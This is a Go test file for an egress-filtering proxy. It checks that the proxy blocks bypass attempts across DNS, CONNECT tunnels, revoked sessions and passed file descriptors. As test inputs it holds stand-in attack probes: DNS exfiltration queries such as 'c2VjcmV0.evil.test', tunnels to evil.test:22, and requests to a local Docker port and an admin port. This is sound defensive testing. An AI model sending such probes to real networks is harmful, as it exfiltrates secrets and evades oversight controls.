package door_test

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"gatehouse/enforcers"
	"gatehouse/enforcers/door"
	"gatehouse/receipts"
)

// sessionRows are about who is asking, what the door itself is, and what a
// session may use up.
func sessionRows(*testing.T) map[string]row {
	rows := map[string]row{
		// Identity is the listener: what the client says about itself is neither
		// needed nor believed.
		"EG-68_no_token": both(connect(good), allowed(200, "egress[0]")),
		"EG-68_foreign_token": both(func(in *inside) reply {
			return in.raw("CONNECT", "CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\nProxy-Authorization: Bearer session-of-another\r\n\r\n")
		}, denied(403, "host_not_listed")),
		"EG-97_docker_port":      both(rawConnect("127.0.0.1:2375"), denied(403, enforcers.CodeIPLiteral)),
		"EG-97_admin_plain":      both(plainHost("127.0.0.1:9090"), denied(403, enforcers.CodeIPLiteral)),
		"EG-104_bound_host":      both(boundRequest("PUT /repos/org/repo/actions/secrets"), denied(403, enforcers.CodeNeedsAuthority)),
		"EG-106_own_listener":    both(rawConnect("127.0.0.1:9090"), denied(403, enforcers.CodeIPLiteral)),
		"EG-106_unknown_address": both(rawConnect("198.18.0.77:443"), denied(403, enforcers.CodeIPLiteral)),
		"EG-106_unknown_v6":      both(rawConnect("[fd67:6174:6568:6f75::77]:443"), denied(403, enforcers.CodeIPLiteral)),
		"EG-106_first_address":   both(rawConnect("198.18.0.0:443"), denied(403, enforcers.CodeIPLiteral)),
		"EG-106_garbage":         both(func(in *inside) reply { return in.raw("GET", "\x16\x03\x01\x00\r\n\r\n") }, denied(400, enforcers.CodeMalformed)),
		"EG-106_two_targets":     both(rawConnect("api.good.test:443 evil.test:443"), denied(400, enforcers.CodeMalformed)),
		"EG-107_no_query": {
			do:     func(in *inside) reply { _, _, re := in.tunnel("secret-label.evil.test:443"); return re },
			hard:   denied(403, "host_not_listed"),
			shadow: blocked(200, "host_not_listed").dialed(0).asked(0).ended(enforcers.CodeClientGone),
		},
		"EG-101_empty_policy": {
			do: connect(good), hard: denied(403, "host_not_listed"), shadow: blocked(200, "host_not_listed"),
			setup: func(_ *testing.T, _ *outside, s *setup) {
				s.policy = `{"bundle":"matrix","digest":"00","egress":[],"models":[],"operations":[],"telemetry":[]}`
			},
		},
	}
	r := rows["EG-104_bound_host"]
	r.hard.code = "method_not_listed"
	rows["EG-104_bound_host"] = r
	r = rows["EG-68_foreign_token"]
	r.shadow.code = enforcers.CodePort
	rows["EG-68_foreign_token"] = r
	for name, address := range map[string]string{"v4": "127.0.0.1:2375", "name": "localhost:2375"} {
		code := enforcers.CodeIPLiteral
		if name == "name" {
			code = enforcers.CodeSpecialName
		}
		rows["EG-97_"+name] = both(rawConnect(address), denied(403, code))
	}
	return rows
}

func boundRequest(line string) func(*inside) reply {
	return func(in *inside) reply {
		return in.https("bound.good.test:443", "bound.good.test", line+" HTTP/1.1\r\nHost: bound.good.test\r\n\r\n")
	}
}

// resolver asks the door's DNS the way init does.
type resolver struct {
	c net.Conn
	r *bufio.Reader
}

func (in *inside) resolver() *resolver {
	in.t.Helper()
	c, r, re := in.tunnel("gatehouse-dns:53")
	if re.status != 200 {
		in.t.Fatalf("the DNS tunnel answered %d", re.status)
	}
	return &resolver{c, r}
}

func (r *resolver) raw(b []byte) (*dns.Msg, error) {
	if _, err := r.c.Write(append(binary.BigEndian.AppendUint16(nil, uint16(len(b))), b...)); err != nil {
		return nil, err
	}
	var size [2]byte
	if _, err := io.ReadFull(r.r, size[:]); err != nil {
		return nil, err
	}
	answer := make([]byte, binary.BigEndian.Uint16(size[:]))
	if _, err := io.ReadFull(r.r, answer); err != nil {
		return nil, err
	}
	m := new(dns.Msg)
	return m, m.Unpack(answer)
}

func (r *resolver) ask(t testing.TB, name string, qtype uint16) *dns.Msg {
	t.Helper()
	q := new(dns.Msg)
	q.SetQuestion(dns.Fqdn(name), qtype)
	b, err := q.Pack()
	if err != nil {
		t.Fatal(err)
	}
	m, err := r.raw(b)
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	if m.Id != q.Id || !m.Response || len(m.Question) != 1 {
		t.Fatalf("%s: %v", name, m)
	}
	return m
}

func addressOf(t testing.TB, m *dns.Msg) netip.Addr {
	t.Helper()
	if len(m.Answer) != 1 {
		t.Fatalf("no single answer: %v", m)
	}
	switch rr := m.Answer[0].(type) {
	case *dns.A:
		a, _ := netip.AddrFromSlice(rr.A.To4())
		return a
	case *dns.AAAA:
		a, _ := netip.AddrFromSlice(rr.AAAA.To16())
		return a
	}
	t.Fatalf("no address: %v", m)
	return netip.Addr{}
}

// TestBypassMatrixDNS shows that the door answers names itself, that the addresses it
// makes up lead back to the name, and that nothing is ever asked outside.
func TestBypassMatrixDNS(t *testing.T) {
	o := newOutside(t)
	nothingAsked := func(t *testing.T, before tally) {
		t.Helper()
		if after := o.tally(); after != before {
			t.Errorf("something reached the outside: %+v", after)
		}
	}
	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
		t.Run("EG-94_exfiltration_label/"+string(mode), func(t *testing.T) {
			in := open(t, o, setup{mode: mode})
			before := o.tally()
			r := in.resolver()
			w := denied(dns.RcodeNameError, "name_not_listed")
			if mode == receipts.Shadow {
				w = blocked(dns.RcodeSuccess, "name_not_listed").dialed(0).asked(0).ended(enforcers.CodeAnswered)
			}
			for _, qtype := range []uint16{dns.TypeA, dns.TypeAAAA, dns.TypeTXT, dns.TypeNULL, dns.TypeMX, dns.TypeHTTPS, dns.TypeANY, 65280} {
				from := in.mark()
				m := r.ask(t, "c2VjcmV0.evil.test", qtype)
				in.expect(t, from, reply{status: m.Rcode}, w)
				addresses := mode == receipts.Shadow && (qtype == dns.TypeA || qtype == dns.TypeAAAA)
				if len(m.Answer) != 0 != addresses {
					t.Errorf("type %d: %v", qtype, m)
				}
				if d, _ := in.rec.last(); d.Action.Kind != enforcers.DNSQuery {
					t.Errorf("type %d: receipt %+v", qtype, d)
				}
			}
			nothingAsked(t, before)
		})
		t.Run("EG-94_listed/"+string(mode), func(t *testing.T) {
			in := open(t, o, setup{mode: mode})
			before := o.tally()
			r := in.resolver()
			four, six := addressOf(t, r.ask(t, good, dns.TypeA)), addressOf(t, r.ask(t, good, dns.TypeAAAA))
			if again := addressOf(t, r.ask(t, "API.good.test", dns.TypeA)); again != four {
				t.Errorf("the name's address changed from %s to %s", four, again)
			}
			if other := addressOf(t, r.ask(t, "git.good.test", dns.TypeA)); other == four {
				t.Error("two names share an address")
			}
			for _, qtype := range []uint16{dns.TypeTXT, dns.TypeHTTPS, dns.TypeSVCB} { // EG-61: no hint at another endpoint
				from := in.mark()
				m := r.ask(t, good, qtype)
				in.expect(t, from, reply{status: m.Rcode}, allowed(dns.RcodeSuccess, "egress[0]").dialed(0).asked(0).ended(enforcers.CodeAnswered))
				if len(m.Answer) != 0 {
					t.Errorf("type %d: %v", qtype, m)
				}
			}
			nothingAsked(t, before)
			// The transparent path: both addresses lead to the name.
			for _, target := range []string{netip.AddrPortFrom(four, 443).String(), netip.AddrPortFrom(six, 443).String()} {
				from, w := in.mark(), allowed(200, "egress[0]")
				if target != netip.AddrPortFrom(four, 443).String() {
					w = w.kept() // by the connection of the first
				}
				in.expect(t, from, in.https(target, good, get(good, "/v1/x")), w)
				from = in.mark()
				re := in.https(target, "evil.test", get(good, "/v1/x")) // EG-39
				in.hangUp()
				in.expect(t, from, re, denied(0, enforcers.CodeMisdirected))
			}
		})
	}
	t.Run("EG-94_malformed", func(t *testing.T) {
		in := open(t, o, setup{})
		before := o.tally()
		query := func(f func(*dns.Msg)) []byte {
			m := new(dns.Msg)
			m.SetQuestion("api.good.test.", dns.TypeA)
			f(m)
			b, err := m.Pack()
			if err != nil {
				t.Fatal(err)
			}
			return b
		}
		for name, b := range map[string][]byte{
			"empty":         {},
			"garbage":       []byte("not a message at all"),
			"response":      query(func(m *dns.Msg) { m.Response = true }),
			"two_questions": query(func(m *dns.Msg) { m.Question = append(m.Question, m.Question[0]) }),
			"no_question":   query(func(m *dns.Msg) { m.Question = nil }),
			"with_answer":   query(func(m *dns.Msg) { m.Answer = answer(m.Question[0], "93.184.216.10").Answer }),
		} {
			if m, err := in.resolver().raw(b); err == nil {
				t.Errorf("%s was answered: %v", name, m)
			}
		}
		for name, want := range map[string]struct {
			rcode int
			b     []byte
		}{
			"update": {dns.RcodeNotImplemented, query(func(m *dns.Msg) { m.Opcode = dns.OpcodeUpdate })},
			"chaos":  {dns.RcodeRefused, query(func(m *dns.Msg) { m.Question[0].Qclass = dns.ClassCHAOS })},
			"name":   {dns.RcodeNameError, query(func(m *dns.Msg) { m.Question[0].Name = `evil\000.good.test.` })},
			"space":  {dns.RcodeNameError, query(func(m *dns.Msg) { m.Question[0].Name = `a\032b.good.test.` })},
			"root":   {dns.RcodeNameError, query(func(m *dns.Msg) { m.Question[0].Name = "." })},
		} {
			if m, err := in.resolver().raw(want.b); err != nil || m.Rcode != want.rcode || len(m.Answer) > 0 {
				t.Errorf("%s: %v %v", name, m, err)
			}
		}
		nothingAsked(t, before)
	})
	t.Run("EG-109_name_bounds", func(t *testing.T) {
		now := time.Unix(1_800_000_000, 0)
		in := open(t, o, setup{mode: receipts.Shadow, clock: func() time.Time { return now }})
		r := in.resolver()
		for i := range 64 {
			addressOf(t, r.ask(t, fmt.Sprintf("n%d.evil.test", i), dns.TypeA))
		}
		if m := r.ask(t, "n64.evil.test", dns.TypeA); m.Rcode != dns.RcodeRefused {
			t.Errorf("the 65th name in a minute: %v", m)
		}
		addressOf(t, r.ask(t, "n0.evil.test", dns.TypeA)) // a known name is no new one
		from := in.mark()
		in.expect(t, from, rawConnect("n65.evil.test:443")(in), denied(403, "name_rate"))
		now = now.Add(time.Minute)
		addressOf(t, r.ask(t, "n64.evil.test", dns.TypeA))
	})
	t.Run("reserved", func(t *testing.T) {
		in := open(t, o, setup{routes: []door.Route{{
			Match:   func(r *door.Request) bool { return r.To.Host() == door.Reserved },
			Handler: door.HandlerFunc(func(w http.ResponseWriter, r *door.Request) { _, _ = io.WriteString(w, "inside "+r.Path) }),
		}}})
		before := o.tally()
		a := addressOf(t, in.resolver().ask(t, door.Reserved, dns.TypeA))
		if re := inTunnelHTTP(a.String()+":80", get(door.Reserved, "/agent/v1/session"))(in); re.body != "inside /agent/v1/session" {
			t.Errorf("client saw %d %q", re.status, re.body)
		}
		if re := plain("http://gatehouse.internal/x", door.Reserved)(in); re.body != "inside /x" {
			t.Errorf("client saw %d %q", re.status, re.body)
		}
		none := open(t, o, setup{})
		if re := plain("http://gatehouse.internal/x", door.Reserved)(none); re.status != 404 {
			t.Errorf("without a route: %d", re.status)
		}
		nothingAsked(t, before)
	})
}

// TestBypassMatrixNameBudget shows that a wildcard is no channel.
func TestBypassMatrixNameBudget(t *testing.T) {
	o := newOutside(t)
	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
		t.Run("EG-109_labels_under_wildcard/"+string(mode), func(t *testing.T) {
			in := open(t, o, setup{mode: mode})
			for i := range 40 {
				w := allowed(200, "egress[2]")
				if i >= enforcers.DefaultNames {
					w = denied(403, enforcers.CodeNameBudget).at("egress[2]")
					if mode == receipts.Shadow {
						w = blocked(200, enforcers.CodeNameBudget).at("egress[2]")
					}
				}
				from := in.mark()
				re := in.fetch(fmt.Sprintf("n%d.deep.test", i), "/")
				in.hangUp()
				in.expect(t, from, re, w)
			}
			in.covered(t)
		})
	}
}

// TestBypassMatrixRevocation shows that the end of a session, and a change of policy, cut
// what is open.
func TestBypassMatrixRevocation(t *testing.T) {
	o := newOutside(t)
	// What is opened, what its receipt says while it is open, and how it ends. A
	// tunnel that nothing was asked in has reached nothing.
	kinds := map[string]struct {
		open func(t *testing.T, in *inside) io.Reader
		want want
	}{
		"idle_tunnel": {func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.tunnel(good + ":443"); return c }, stopped(0, "").asked(0)},
		"idle_tls":    {func(_ *testing.T, in *inside) io.Reader { c, _, _ := in.secure(good+":443", good); return c }, stopped(0, "").asked(0)},
		"blind": {func(t *testing.T, in *inside) io.Reader {
			c, r, re := in.tunnel("blind.good.test:5432")
			_, _ = io.WriteString(c, "x")
			if b, err := r.ReadByte(); re.status != 200 || b != 'x' || err != nil {
				t.Fatal("the blind tunnel does not work")
			}
			return r
		}, allowed(0, "egress[7]")},
		"stream":   {streaming(good, "/v1/x"), allowed(0, "egress[0]")},
		"injected": {streaming(bound, "/v1/x"), allowed(0, "egress[4]")}, // the swap was made under the old policy
		"websocket": {func(t *testing.T, in *inside) io.Reader {
			in.out.handle(t, echoWebSocket)
			c, r, _ := in.secure("ws.good.test:443", "ws.good.test")
			_, _ = io.WriteString(c, "GET /x HTTP/1.1\r\nHost: ws.good.test\r\n"+strings.Join(append(upgrade, "\r\n"), "\r\n"))
			if resp, err := http.ReadResponse(r, nil); err != nil || resp.StatusCode != 101 {
				t.Fatalf("%v %v", resp, err)
			}
			return r
		}, allowed(0, "egress[12]")},
	}
	for name, c := range map[string]struct {
		code string
		end  func(*inside)
	}{
		"EG-70_session_ends":    {enforcers.CodeRevoked, func(in *inside) { in.door.Close(enforcers.CodeRevoked) }},
		"EG-100_policy_changes": {enforcers.CodeGeneration, func(in *inside) { in.gate.Swap(policyOf(in.t, matrixPolicy)) }},
	} {
		for kind, k := range kinds {
			for _, mode := range modes {
				t.Run(name+"/"+kind+"/"+string(mode), func(t *testing.T) {
					o.handle(t, func(w http.ResponseWriter, r *http.Request) {
						w.Header().Set("Content-Type", "text/event-stream")
						for r.Context().Err() == nil {
							_, _ = io.WriteString(w, "data: x\n\n")
							w.(http.Flusher).Flush()
							time.Sleep(time.Millisecond)
						}
					})
					in := open(t, o, setup{mode: mode, inject: connections(t)})
					from := in.mark()
					r := k.open(t, in)
					began := time.Now()
					c.end(in)
					if _, err := io.Copy(io.Discard, r); errors.Is(err, context.DeadlineExceeded) {
						t.Fatal("still open")
					}
					if took := time.Since(began); took > patience {
						t.Errorf("took %s", took)
					}
					in.hangUp()
					w := k.want
					if w.outcome = c.code; w.dials == 0 {
						d, _ := in.rec.last()
						w.outcome = in.rec.outcome(t, d.Receipt).Code // nobody was asked anything: any word for its end will do
					}
					if kind == "injected" {
						w.secrets = 1
					}
					in.expect(t, from, reply{}, w)
					if d, out := in.rec.last(); w.dials > 0 && (out.Effect != enforcers.Forwarded || d.Action.Generation != 1) {
						t.Errorf("generation %d, outcome %+v", d.Action.Generation, out)
					}
					if name == "EG-70_session_ends" {
						in.end()
					}
					from = in.mark()
					re := in.fetchOrNothing(good)
					if name == "EG-100_policy_changes" {
						w := allowed(200, "egress[0]")
						if kind == "stream" || kind == "injected" {
							w.dials, w.reused = o.tally().accepts-from.accepts, true // a cut stream's connection is not used again
						}
						in.hangUp()
						in.expect(t, from, re, w)
						if d, _ := in.rec.last(); d.Action.Generation != 2 {
							t.Errorf("judged under generation %d", d.Action.Generation)
						}
						in.covered(t)
						return
					}
					if after := in.mark(); re.status != 0 || after != from {
						t.Errorf("after the end the door answered %d, and something was receipted or reached the outside: %+v", re.status, after)
					}
				})
			}
		}
	}
}

// streaming opens an answer that does not end.
func streaming(host, path string) func(t *testing.T, in *inside) io.Reader {
	return func(t *testing.T, in *inside) io.Reader {
		c, r, _ := in.secure(host+":443", host)
		_, _ = io.WriteString(c, get(host, path))
		if line, err := r.ReadString('\n'); err != nil || !strings.Contains(line, "200") {
			t.Fatalf("%q %v", line, err)
		}
		return r
	}
}

// fetchOrNothing is fetch for a door that may be gone.
func (in *inside) fetchOrNothing(host string) reply {
	c, err := net.Dial("unix", in.path)
	if err != nil {
		return reply{err: err}
	}
	_ = c.Close()
	in.out.mu.Lock()
	in.out.handler = nil
	in.out.mu.Unlock()
	return in.fetch(host, "/v1/x")
}

// TestBypassMatrixReceiptLogDown shows that without receipts nothing passes.
func TestBypassMatrixReceiptLogDown(t *testing.T) {
	o := newOutside(t)
	for _, mode := range []receipts.Mode{receipts.Hard, receipts.Shadow} {
		t.Run("EG-99_log_down/"+string(mode), func(t *testing.T) {
			in := open(t, o, setup{mode: mode})
			c, r, _ := in.secure(good+":443", good)
			from := in.mark()
			in.rec.mu.Lock()
			in.rec.down = true
			in.rec.mu.Unlock()
			_, _ = io.WriteString(c, get(good, "/v1/x"))
			if re := read(r, "GET"); re.status != 503 || !strings.Contains(re.body, enforcers.CodeReceiptUnavailable) {
				t.Errorf("client saw %d %s", re.status, re.body)
			}
			if re := rawConnect(good + ":443")(in); re.status != 503 {
				t.Errorf("CONNECT: %d", re.status)
			}
			if re := rawConnect("evil.test:443")(in); re.status != 503 {
				t.Errorf("CONNECT to evil: %d", re.status)
			}
			if after := in.mark(); after != from {
				t.Errorf("something was receipted or reached the outside: %+v", after)
			}
		})
	}
}

// TestBypassMatrixTwoSessions shows that a session is what it came in by.
func TestBypassMatrixTwoSessions(t *testing.T) {
	o := newOutside(t)
	two := func(name string, run func(t *testing.T, a, b *inside)) {
		each(t, name, o, func(t *testing.T, a *inside) {
			b := open(t, o, setup{mode: a.gate.Mode(), session: "s-2"})
			run(t, a, b)
			b.hangUp()
			b.covered(t)
		})
	}
	two("EG-69_identity_is_the_listener", func(t *testing.T, a, b *inside) {
		from := a.mark()
		re := a.raw("CONNECT", "CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\nProxy-Authorization: Bearer s-2\r\n\r\n")
		w := denied(403, "host_not_listed")
		if a.gate.Mode() == receipts.Shadow {
			w.code = enforcers.CodePort
		}
		a.expect(t, from, re, w)
		from = a.mark()
		re = a.fetch(good, "/v1/x")
		a.hangUp()
		a.expect(t, from, re, allowed(200, "egress[0]"))
		if len(b.rec.all()) != 0 {
			t.Error("one session's action stands in another's receipts")
		}
		for _, d := range a.rec.all() {
			if d.Action.Session != "s-1" {
				t.Errorf("a receipt names session %s", d.Action.Session)
			}
		}
	})
	two("EG-69_names_are_not_shared", func(t *testing.T, a, b *inside) {
		addr := addressOf(t, a.resolver().ask(t, "git.good.test", dns.TypeA))
		from := b.mark()
		b.expect(t, from, rawConnect(addr.String()+":443")(b), denied(403, enforcers.CodeIPLiteral))
	})
	two("EG-98_another_door", func(t *testing.T, a, b *inside) {
		// A door listens on a unix socket only; there is no address to name.
		from := a.mark()
		w := denied(403, "host_not_listed")
		if a.gate.Mode() == receipts.Shadow {
			w.code = enforcers.CodePort
		}
		a.expect(t, from, rawConnect(filepath.Base(b.path)+":1")(a), w)
		if len(b.rec.all()) != 0 {
			t.Error("it reached the other door")
		}
	})
	two("EG-69_trust_is_not_shared", func(t *testing.T, a, b *inside) {
		a.roots = b.roots
		from := a.mark()
		re := a.fetch(good, "/v1/x")
		if re.err == nil {
			t.Error("one session's CA is trusted in another")
		}
		a.hangUp()
		a.expect(t, from, re, stopped(0, enforcers.CodeClientTLS).asked(0))
	})
}

// TestBypassMatrixDescriptorPassing shows that descriptors sent over the door's socket are
// dropped and change nothing.
func TestBypassMatrixDescriptorPassing(t *testing.T) {
	o := newOutside(t)
	each(t, "EG-110_scm_rights", o, func(t *testing.T, in *inside) {
		c := in.dial().(*net.UnixConn)
		reader, writer, err := pipe()
		if err != nil {
			t.Fatal(err)
		}
		from := in.mark()
		text := "CONNECT evil.test:22 HTTP/1.1\r\nHost: evil.test:22\r\n\r\n"
		if _, _, err := c.WriteMsgUnix([]byte(text), unix.UnixRights(writer), nil); err != nil {
			t.Fatal(err)
		}
		_ = unix.Close(writer)
		w := denied(403, "host_not_listed")
		if in.gate.Mode() == receipts.Shadow {
			w.code = enforcers.CodePort
		}
		in.expect(t, from, read(bufio.NewReader(c), "CONNECT"), w)
		// The door's copy of the pipe's end is closed: the reader sees its end.
		buf := make([]byte, 1)
		if n, err := unix.Read(reader, buf); n != 0 || err != nil {
			t.Errorf("the descriptor lived on: %d %v", n, err)
		}
		_ = unix.Close(reader)
	})
}

func pipe() (r, w int, err error) {
	var p [2]int
	err = unix.Pipe2(p[:], unix.O_CLOEXEC)
	return p[0], p[1], err
}
